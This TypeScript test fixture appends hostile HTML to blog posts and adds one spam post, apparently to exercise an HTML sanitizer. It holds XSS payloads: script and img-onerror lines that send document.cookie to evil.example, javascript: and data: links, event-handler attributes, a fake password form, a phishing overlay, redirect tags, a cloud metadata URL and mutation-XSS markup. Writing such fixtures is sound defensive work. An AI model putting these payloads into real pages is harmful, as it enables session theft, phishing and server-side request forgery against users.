import { BLOG_POSTS, type BlogPost } from "./blog-posts.ts";

const SPAM: BlogPost = {
  title: "WIN A FREE LEXUS!!! click now",
  picture: null,
  html: `<script>document.location="https://evil.example/?c="+document.cookie</script>
<p onmouseover="alert(1)">Our weekly draw is closed. This note stays here because the archive keeps everything.</p>
<img src=x onerror="fetch('https://evil.example/'+document.cookie)">
<a href="javascript:alert(document.domain)">Claim your prize</a>
<a href="  jAvAsCrIpT:alert(1)">or here</a> <a href="data:text/html,<script>alert(1)</script>">or here</a>
<iframe src="https://evil.example/login"></iframe><object data="https://evil.example/x.swf"></object>
<svg onload="alert(1)"><a xlink:href="javascript:alert(2)"><text y="20">prize</text></a></svg>
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in again</button></form>`,
};

/** What a careless or hostile author adds to a post, by its title. */
const ADDED: Record<string, string> = {
  "The deposit: 600 dollars, or ten percent, and how to get it back": `<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Session expired</h1><a href="https://evil.example/login">Sign in to continue</a></div>
<style>body{display:none} .header{background:url(https://evil.example/a.png)}</style>
<img src="https://tracker.example/pixel.gif?post=7" width="1" height="1" alt="">
<p class="toast" id="app" style="expression(alert(1))">Your deposit waits.</p>`,
  "Flood cars: how to see the water line in ten photographs": `<ul><li>Not closed<li>Nor this one<p><b><i>Unsure? <table><tr><td>Send us the lot number and we look at it with you by video call.
<a href="//evil.example/lots" target="_blank" onclick="steal()">Check a lot</a>
<img src="//tracker.example/1.gif"><img src="http://169.254.169.254/latest/meta-data/">
<!-- <script>alert('hidden')</script>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  "Nigeria's duty after 1 July 2026, line by line": `<a href="https://www.customs.gov.ng/" rel="opener">Customs</a>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<video src="https://evil.example/v.mp4" autoplay onloadstart="alert(1)"></video><details open ontoggle="alert(1)">&#8203;</details>
<a href="java&#115;cript:alert(1)">Duty calculator</a><template><script>alert(1)</script></template></textarea></title></p></div></div></main>`,
};

/** The posts as they stand while the stand-in is asked for hostile ones. */
export const HOSTILE_POSTS: readonly BlogPost[] = [
  ...BLOG_POSTS.map((post) => ({ ...post, html: post.html + (ADDED[post.title] ?? "") })),
  SPAM,
];
